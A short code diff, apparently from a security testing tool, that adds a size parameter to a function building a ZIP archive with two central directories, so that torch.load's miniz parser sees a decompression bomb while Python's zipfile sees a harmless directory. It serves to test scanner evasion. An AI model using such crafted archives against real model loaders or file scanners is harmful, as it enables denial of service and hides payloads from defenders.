@@ -115,10 +115,10 @@ def _central_records(cd: bytes):
         at += 46 + n + x + c
 
 
-def two_directories() -> bytes:
+def two_directories(size: int = BOMB_BYTES) -> bytes:
     """miniz (torch.load) reads the deflated bomb's directory at the end record's offset;
     zipfile reads a harmless-looking stored directory that ends at the end record."""
-    bomb = deflated_bomb_zip()
+    bomb = deflated_bomb_zip(size)
     eocd_at, cd_size, cd_off = _eocd(bomb)
     cd1 = bomb[cd_off:cd_off + cd_size]
     cd2 = bytearray(cd1)
